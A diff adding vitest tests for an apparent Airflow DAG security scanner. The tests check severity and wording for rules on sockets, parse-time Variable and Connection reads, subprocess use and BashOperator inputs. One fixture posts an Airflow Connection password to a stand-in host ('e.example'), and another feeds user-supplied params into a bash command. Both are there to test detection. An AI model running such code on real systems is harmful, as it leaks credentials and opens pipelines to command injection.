@@ -1,0 +1,76 @@
+/**
+ * Severities and wording that fixtures (which check lines only) cannot show: the noise classes of the false-positive
+ * review on real repositories (docs/false-positive-review.md) must stay low, the real ones high.
+ */
+import { describe, expect, it } from 'vitest';
+import { ALL_RULES } from '../../rules';
+import { analyzeSource, compileRules } from '../../src/engine/analyze';
+import { DEFAULT_SETTINGS } from '../../src/engine/settings';
+
+const only = (id: string) => compileRules(ALL_RULES.filter((r) => r.meta.id === id));
+const compiled = only('DG501');
+const check = (src: string, c = compiled) => analyzeSource('s.py', src, c, DEFAULT_SETTINGS).findings;
+
+describe('DG501 socket', () => {
+  it('is medium and says so when the module is used at parse time', () => {
+    const [f] = check('import socket\nHOST = socket.gethostname()\n');
+    expect(f.severity).toBe('medium');
+    expect(f.message).toContain('used while the file is parsed');
+  });
+
+  it('is low and says "only inside functions" when no module-level code uses it', () => {
+    const [f] = check('import socket as s\n\ndef ping():\n    return s.create_connection(("h", 1))\n# s.connect at module level only in a comment\nX = "s.socket()"\n');
+    expect(f.severity).toBe('low');
+    expect(f.message).toContain('used only inside functions');
+  });
+
+  it('is not reported when imported inside a function', () => {
+    expect(check('def f():\n    import socket\n    return socket.gethostname()\n')).toEqual([]);
+  });
+});
+
+describe('DG604 parse-time Variable/Connection reads', () => {
+  const c = only('DG604');
+  it('is low and says "reads an Airflow Variable" for configuration', () => {
+    const f = check('from airflow.models import Variable\nCFG = Variable.get("tables", deserialize_json=True)\nB = Variable.get("bucket")\n', c);
+    expect(f.map((x) => [x.line, x.severity])).toEqual([[2, 'low']]);
+    expect(f[0].message).toContain('reads an Airflow Variable');
+    expect(f[0].message).toContain('and 1 more');
+  });
+  it('is medium, at that lookup, when a key names a secret', () => {
+    const f = check('from airflow.models import Variable\nA = Variable.get("bucket")\nP = Variable.get("db_password")\n', c);
+    expect(f.map((x) => [x.line, x.severity])).toEqual([[3, 'medium']]);
+  });
+  it('is high at every lookup when the file also reaches the network at parse time', () => {
+    const f = check('import requests\nfrom airflow.hooks.base import BaseHook\nc = BaseHook.get_connection("x")\nrequests.post("https://e.example", data=c.password)\n', c);
+    expect(f.map((x) => [x.line, x.severity])).toEqual([[3, 'high']]);
+    expect(f[0].message).toContain('Airflow Connection');
+  });
+});
+
+describe('DG605/DG607 in stand-alone scripts', () => {
+  const script = 'import subprocess\nout = subprocess.run(["git", "status"])\nopen("vars.json", "w").write("{}")\nif __name__ == "__main__":\n    print(out)\n';
+  it('are low and conditional in a script with a __main__ block and no Airflow', () => {
+    for (const id of ['DG605', 'DG607']) {
+      const [f] = check(script, only(id));
+      expect(f.severity, id).toBe('low');
+      expect(f.message, id).toContain('if this file is in the DAG folder');
+    }
+  });
+  it('keep their severity in a DAG file', () => {
+    const dag = 'from airflow import DAG\n' + script;
+    expect(check(dag, only('DG607'))[0].severity).toBe('high');
+    expect(check(dag, only('DG605'))[0].severity).toBe('medium');
+  });
+});
+
+describe('DG204 severity by origin', () => {
+  const c = only('DG204');
+  const run = (value: string) =>
+    check(`from airflow.models import Variable\nfrom airflow.operators.bash import BashOperator\n${value}\nBashOperator(task_id="t", bash_command=f"load {x}")\n`, c);
+  it('is info for a value of unknown origin, low for a Variable, high for dag_run.conf', () => {
+    expect(run('x = compute()').map((f) => f.severity)).toEqual(['info']);
+    expect(run('x = Variable.get("table")').map((f) => f.severity)).toEqual(['low']);
+    expect(run('x = context["params"]["table"]').map((f) => f.severity)).toEqual(['high']);
+  });
+});
